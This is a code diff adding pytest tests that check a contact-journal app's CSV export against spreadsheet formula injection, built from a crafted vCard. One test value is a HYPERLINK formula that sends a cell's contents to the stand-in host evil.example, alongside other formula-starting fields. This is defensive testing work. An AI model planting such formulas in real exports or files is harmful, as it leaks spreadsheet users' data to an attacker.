@@ -5,6 +5,7 @@ pass one set of checks, whichever door they come through."""
 from __future__ import annotations
 
 import json
+import shutil
 import subprocess
 from datetime import date, timedelta
 from pathlib import Path
@@ -289,3 +290,98 @@ def test_planned_ics_counts_what_it_wrote(demo_store: Store):
 def test_a_follow_up_due_far_ahead_still_exports(store: Store):
     add_by_names(store, "Far", date(2026, 11, 26) + timedelta(days=3000), "Initech")
     assert planned_ics(store).planned == 1
+
+
+# -- spreadsheets --------------------------------------------------------------------------------
+
+LINK = '=HYPERLINK("http://evil.example/?leak="&B3,"Click me")'
+FORMULAS = {
+    "company": LINK,
+    "title": "=1+2",
+    "name": "@SUM(1+1)",
+    "phone": "+44 20 7946 0000",
+    "email": "-2+3@evil.example",
+}
+"""A card as an attacker would send it: each field a formula a spreadsheet would run."""
+
+
+@pytest.fixture
+def formula_journal(db_path: Path, tmp_path: Path) -> Path:
+    """A journal holding a card imported from a vCard whose fields are formulas."""
+    from click.testing import CliRunner
+
+    from followup_tui.cli import cli
+
+    card = (
+        "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:evil-1\r\n"
+        f"FN:{FORMULAS['name']}\r\nORG:{FORMULAS['company'].replace(',', chr(92) + ',')}\r\n"
+        f"TITLE:{FORMULAS['title']}\r\nTEL:{FORMULAS['phone']}\r\nEMAIL:{FORMULAS['email']}\r\nEND:VCARD\r\n"
+    )
+    (tmp_path / "evil.vcf").write_text(card)
+    imported = CliRunner().invoke(cli, ["import", "vcard", str(tmp_path / "evil.vcf"), "--db", str(db_path)])
+    assert imported.exit_code == 0, imported.output
+    return db_path
+
+
+def csv_export(db: Path, *args: str):
+    from click.testing import CliRunner
+
+    from followup_tui.cli import cli
+
+    return CliRunner().invoke(cli, ["export", "csv", "contacts", *args, "--db", str(db)])
+
+
+def test_a_cell_that_starts_like_a_formula_is_written_as_text(formula_journal: Path):
+    import csv
+    import io
+
+    text = csv_export(formula_journal).stdout
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert {key: row[key] for key in FORMULAS} == {key: "'" + value for key, value in FORMULAS.items()}
+    assert row["has_my_details"] == "False" and row["id"].isdigit(), "other cells as they were"
+    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines()), (
+        "every field quoted, so a spreadsheet reading ; or tab as the separator never splits a cell"
+    )
+
+
+@settings(max_examples=300)
+@given(st.text(max_size=12))
+def test_no_cell_starts_like_a_formula_and_the_text_is_all_there(text: str):
+    from followup_tui.services.records_table import FORMULA_STARTS, spreadsheet_cell
+
+    cell = spreadsheet_cell(text)
+    assert cell in (text, "'" + text)
+    assert not cell.lstrip(" \t\r\n").startswith(FORMULA_STARTS)
+    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(True) is True, "numbers the journal keeps stay numbers"
+
+
+def test_excel_gets_a_byte_order_mark_and_everyone_else_none(formula_journal: Path, tmp_path: Path):
+    assert not csv_export(formula_journal).stdout.startswith("\ufeff")
+    assert csv_export(formula_journal, "--excel").stdout.startswith('\ufeff"id","name"')
+    assert csv_export(formula_journal, "--excel", "-o", str(tmp_path / "c.csv")).exit_code == 0
+    assert (tmp_path / "c.csv").read_bytes().startswith(b'\xef\xbb\xbf"id"')
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(
+    shutil.which("ssconvert") is None,
+    reason="Gnumeric's ssconvert, the real spreadsheet this test opens the export in, is not installed"
+    " (Debian: apt-get install gnumeric)",
+)
+def test_a_real_spreadsheet_shows_the_text_and_computes_no_formula(formula_journal: Path, tmp_path: Path):
+    import csv
+    import zipfile
+
+    exported = tmp_path / "contacts.csv"
+    assert csv_export(formula_journal, "-o", str(exported)).exit_code == 0
+    for target in ("values.csv", "book.xlsx"):
+        done = subprocess.run(
+            ["ssconvert", "--recalc", str(exported), str(tmp_path / target)], capture_output=True, timeout=120
+        )
+        assert done.returncode == 0, done.stderr
+    with zipfile.ZipFile(tmp_path / "book.xlsx") as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet, "no cell of the workbook is a formula"
+    with open(tmp_path / "values.csv", newline="", encoding="utf-8") as values:
+        [row] = list(csv.DictReader(values))
+    assert {key: row[key] for key in FORMULAS} == FORMULAS, "each shows as the text it is: no 3, no Click me"
